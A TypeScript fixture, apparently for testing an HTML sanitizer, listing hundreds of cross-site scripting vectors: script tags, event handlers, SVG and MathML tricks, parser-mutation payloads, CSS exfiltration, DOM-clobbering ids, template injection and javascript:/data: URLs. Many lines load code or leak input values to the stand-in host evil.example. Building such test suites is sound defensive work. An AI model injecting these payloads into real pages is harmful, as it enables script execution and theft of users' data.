/**
 * Ways in which text becomes script in browsers, by class, written for this project: what a hostile content
 * service could send in any field. All of them would call `alert`, load from `evil.example` or clobber the
 * page's own names.
 */

import { wordsIn } from './words-in.ts';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js>',
  '<script type=module>import("https://evil.example/x.js")</script>',
  '<script type="text/javascript"\u000calert(1)>alert(1)</script\u000a>',
  '<script/src=data:,alert(1)></script>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>/*<!--*/alert(1)//--></script>',
  '<script async defer crossorigin src="https://evil.example/x.js"></script>',
  '<script type="importmap">{"imports":{"/assets/":"https://evil.example/"}}</script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
  '<script type="application/json" id="hydration-data">{}</script>',
];

/** Permitted elements with forbidden attributes. */
const handlers = [
  ...[
    'onclick ondblclick onmouseover onmouseenter onpointerover onpointerdown onfocus onfocusin onblur',
    'onkeydown oncopy onpaste ondrag onscroll onscrollend onwheel oncontextmenu onanimationstart',
    'onanimationend ontransitionend ontouchstart onbeforematch onselectstart oncontentvisibilityautostatechange onbeforeinput onsecuritypolicyviolation onslotchange',
  ]
    .flatMap((names) => names.split(' '))
    .map((name) => `<p ${name}="alert(1)" title="x">x</p>`),
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x\u000conerror\u000c=\u000calert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><img src=x onerror=alert(1)>">',
  '<img src=x:x onload=alert(1) onerror=alert(1)>',
  '<img src="/images/none.png" alt="" onerror=alert&lpar;1&rpar;>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img src=x a=">" onerror=alert(1)>',
  '<img src=x a=\'>\' b="<p" onerror=alert(1)>',
  '<img loading=lazy src=x onerror=alert(1) alt=x alt=y>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<details ontoggle=alert(1) open=open>x</details>',
  '<a href="/" onclick=alert(1)>x</a>',
  '<a onfocus=alert(1) autofocus tabindex=1 href="/">x</a>',
  '<table background="javascript:alert(1)" onclick="alert(1)"><tr><td>x</td></tr></table>',
  '<td onmouseover=alert(1)>x',
  '<time datetime="x" onclick="alert(1)">x</time>',
  '<ol start="1" onclick="alert(1)"><li onclick=alert(1)>x</li></ol>',
]; // prettier-ignore

const elements = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1) onhashchange=alert(1)>',
  '<html onmousemove=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" autoplay oncanplay=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button autofocus onfocus=alert(1) popovertarget=main-content>x</button>',
  '<object data="javascript:alert(1)" onerror=alert(1)></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="https://evil.example/x.class"></applet>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<frameset onload=alert(1)><frame src="https://evil.example/"></frameset>',
  '<fencedframe src="https://evil.example/"></fencedframe>',
  '<portal src="https://evil.example/"></portal>',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<meter onclick=alert(1)>x</meter>',
  '<base href="https://evil.example/">',
  '<base target="_top" href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<link rel=preload as=script href=https://evil.example/x.js onload=alert(1)>',
  '<link rel=prefetch href=https://evil.example/>',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="https://evil.example/x.js"></layer>',
  '<map name=x><area href="javascript:alert(1)"></map>',
  '<picture><source srcset="https://evil.example/x.png"><img src=x onerror=alert(1)></picture>',
  '<x-element onclick=alert(1) is=x>x</x-element>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<slot onslotchange=alert(1)></slot>',
  '<selectedcontent onclick=alert(1)></selectedcontent>',
];

const vectorsOfDrawings = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)></svg>#x"/></svg>',
  '<svg><image href="https://evil.example/x.png" onerror=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style>*{background:url(https://evil.example/)}</style></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
];

/** Markup that a second parser reads differently from the first. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<option><style></option></select><img src=x onerror=alert(1)></style></option>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<!ENTITY x "<img src=x onerror=alert(1)>">&x;',
  '<!doctype html [<!ENTITY x SYSTEM "https://evil.example/">]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<%<img src=x onerror=alert(1)>%>',
  '</ <img src=x onerror=alert(1)>',
  '</p title="<img src=x onerror=alert(1)>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p x="><img src=x onerror=alert(1)>',
  '<a title="`onmouseover=alert(1)" onclick=alert(1)>x</a>',
  '<img alt="<x" title="/><img src=x onerror=alert(1)>" onerror=alert(1)>',
  '<img src="x\u0000" onerror="alert(1)">',
  '<im\u0000g src=x onerror=alert(1)>',
  '<\u0130MG SRC=x onerror=alert(1)>',
  '<p/onclick=alert(1)\u000b>x</p>',
  '<table><tr><td><svg onload=alert(1)></table>',
  '<li><frameset onload=alert(1)></li>',
  `${'<div>'.repeat(300)}<img src=x onerror=alert(1)>`,
  `${'<b><i>'.repeat(60)}<svg><style><img src="</style><img src=x onerror=alert(1)>">`,
];

const styles = [
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">Log in again</p>',
  '<p style=content:url(javascript:alert(1))>x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
];

/** Attributes that our own scripts read. */
const ownData = wordsIn(`
  analytics back cookie-answer cookie-set cookie-unset cookies ends error filtered-rows height hide
  hydration instant live menu-bar named press preview rendering replace retry scripts settings share show
  url views
`);

/** Attributes that load, move, submit or open something. */
const attributes = [
  '<img src="/images/x.svg" srcset="https://evil.example/x.png 2x">',
  '<img src="/images/x.svg" usemap="#x" ismap longdesc="javascript:alert(1)">',
  '<img src="/images/x.svg" crossorigin="use-credentials" referrerpolicy="unsafe-url">',
  '<img src="/images/x.svg" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)/>">',
  '<img src="javascript:alert(1)">',
  '<img src="blob:https://evil.example/x">',
  '<a href="/" ping="https://evil.example/">x</a>',
  '<a href="/" download="x.exe">x</a>',
  '<a href="/" attributionsrc="https://evil.example/">x</a>',
  '<a href="/" class="skip-link">x</a>',
  '<a href="/" data-replace="" data-share="copy">x</a>',
  '<p contenteditable>x</p>',
  '<p accesskey="s" tabindex="1">x</p>',
  '<p popover id="x">x</p>',
  '<p slot="x" part="x" is="x" nonce="x">x</p>',
  '<button commandfor="--main-content" command="show-popover" interestfor="--main-content">x</button>',
  '<a href="/" interestfor="--main-content" target="hydration-data" rel="opener">x</a>',
  `<p ${ownData.map((name) => `data-${name}="javascript:alert(1)"`).join(' ')}>x</p>`,
  `<a href="/" ${ownData.map((name) => `data-${name}="https://evil.example/"`).join(' ')}>x</a>`,
  '<p hidden="until-found" onbeforematch=alert(1)>x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="javascript:alert(1)">x</q>',
  '<ins cite="javascript:alert(1)" datetime="x">x</ins>',
  '<ruby onclick=alert(1)>x<rt onclick=alert(1)>y</rt></ruby>',
  '<bdi onclick=alert(1)>x</bdi><u onclick=alert(1)>y</u><wbr onclick=alert(1)>',
  '<section onclick=alert(1) id="--feedback"><p>x</p></section>',
];

/** Elements that become others: frames links, pictures their text, names ids. */
const replacements = [
  '<iframe src="java\tscript:alert(1)" title="x"></iframe>',
  '<iframe src=" &#106;avascript:alert(1)" title="x"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>" title="x"></iframe>',
  '<iframe src="/javascript:alert(1)" title="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" title=\'"><svg onload=alert(1)>\'></iframe>',
  '<iframe src="//evil.example/<svg onload=alert(1)>"><img src=x onerror=alert(1)></iframe>',
  '<embed src="java&Tab;script:alert(1)" title="x">',
  '<oembed url="javascript:alert(1)" title="x"></oembed>',
  '<svg><iframe src="https://evil.example/" title="</svg><img src=x onerror=alert(1)>"></iframe></svg>',
  '<math><mi><iframe src="javascript:alert(1)" title="x"></iframe></mi></math>',
  '<img src="data:image/png;base64,AA" alt="<img src=x onerror=alert(1)>">',
  '<img src="javascript:alert(1)" alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a name="--main-content" onclick=alert(1)>x</a>',
  '<svg><a name="--main-content"></svg>',
  '<span style="font-weight:bold" onclick=alert(1)>x</span>',
  '<b style="font-weight:normal;background:url(https://evil.example/)" onclick=alert(1)>x</b>',
  '<form><svg><title></form><img src=x onerror=alert(1)></title></svg></form>',
  '<a href="www.evil.example" onclick=alert(1)>x</a>',
  '<table><caption><svg><style><td title="</style><img src=x onerror=alert(1)>"></table>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a id="</style><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<p><noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript></p>',
  '<table><a id="x"><svg><desc><table><a title="</desc></svg><img src=x onerror=alert(1)>">',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<svg><title><noscript></title></noscript><img src=x onerror=alert(1)></svg>',
  '<template><template shadowrootmode=open shadowrootserializable><img src=x onerror=alert(1)></template></template>',
  '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></select>',
  '<p><table><tr><th><math><th></math><style><!--</style><img src=x onerror=alert(1)>--></table>',
];

/** URLs that act instead of leading somewhere, for every URL field. */
export const addressVectors: readonly string[] = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)'],
  ...['java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', 'javascript\t:alert(1)'],
  ...['\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', '\u2028javascript:alert(1)'],
  ...['\u0000javascript:alert(1)', 'javascript://evil.example/%0aalert(1)'],
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  ...['view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!/'],
  ...['vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)'],
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ...['data:image/svg+xml,<svg onload=alert(1) />', 'DATA:text/html,x', 'blob:https://evil.example/x'],
  ...['filesystem:https://evil.example/x', 'file:///etc/passwd', 'ws://evil.example/'],
  ...['intent://evil.example#Intent;scheme=javascript;end', 'ms-settings:network', 'chrome://settings'],
  ...[
    'about:blank',
    'about:srcdoc',
    'javascript&colon;alert(1)',
    'javascript:alert`1`',
    'jAvAsCrIpT\u0009:alert(1)',
  ],
  ...[
    '\u001fjavascript:alert(1)',
    '\u000bjavascript:alert(1)',
    'java\u0000script:alert(1)',
    'javascript\n\n:alert(1)',
  ],
  ...[
    'data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
    'data:,x',
    'wss://evil.example/',
  ],
  ...[
    'blob:null/x',
    'x-javascript:alert(1)',
    'web+app:alert(1)',
    'android-app://evil.example/https/evil.example',
  ],
];

/** After spaces that browsers do not strip, a scheme is part of a path. */
const isAddress = (address: string): boolean => !/^[\u00a0\ufeff\u2028]/.test(address);

/** The same in the HTML of a text, raw and as entities. */
const links = addressVectors.filter(isAddress).flatMap((address) => {
  const asEntities = [...address].map((character) => `&#${character.codePointAt(0)};`).join('');
  return [
    `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
    ...(address.startsWith('javascript:a') || address.startsWith('data:text/html,')
      ? [`<a href="${asEntities}">x</a>`, `<a href=${asEntities}>x</a>`, `<img src="${asEntities}">`]
      : []),
  ];
});

/** HTML of which something must be removed. */
export const markupVectors: readonly string[] = [
  ...scripts,
  ...handlers,
  ...elements,
  ...vectorsOfDrawings,
  ...mutations,
  ...styles,
  ...attributes,
  ...replacements,
  ...links,
];

/** Elements that clobber a name of the document or the browser. */
export const nameVectors: readonly string[] = [
  '<h2 id="hydration-data">{"siteId":"agency"}</h2>',
  '<a id="hydration-data" href="/">{}</a>',
  '<h3 id="--main-content">x</h3>',
  '<a id="trustedTypes">x</a><a id="trustedTypes" href="cid:x">x</a>',
  '<a id="dataLayer">x</a>',
  '<form id="forms" name="cookie"><input id="createElement" name="getElementById"></form>',
  '<img name="currentScript" src="/images/x.svg"><img name="body">',
  '<th id="top">x</th>',
  '<p id="hydration-data">{}</p><ul id="dataLayer"><li id="trustedTypes">x</li></ul>',
  '<a name="hydration-data">x</a><img id="currentScript" src="/images/x.svg" alt="">',
  '<div id="--main-content"><p id="_r_1_">x</p></div>',
  '<p id="navigation">x</p><p id="scheduler">x</p><p id="cookieStore">x</p><p id="gtag">x</p><p id="__proto__">x</p>',
  '<p id="_R_1_">x</p><p id=" --main-content">x</p><p id="ｔop">x</p><p id="--main-content&#0;">x</p>',
  '<img id="forms" alt="" src="/images/x.svg"><a id="forms" href="/">x</a><a id="scripts">x</a><a id="defaultView">x</a>',
];

/** Definitions, which are HTML in an attribute until a visitor opens them. */
export const noteVectors: readonly string[] = [
  '<span data-term="&lt;img src=x onerror=alert(1)&gt;">definition</span>',
  '<span data-term="&lt;svg&gt;&lt;style&gt;&lt;img src=&quot;&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">x</span>',
  '<a data-term="&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;" href="javascript:alert(1)">definition</a>',
];

/** Text that engines other than a browser would run, and doubly escaped HTML. */
export const textVectors: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an engine would look for
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '"onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '`-alert(1)-`',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '\u202e<script>alert(1)</script>',
];
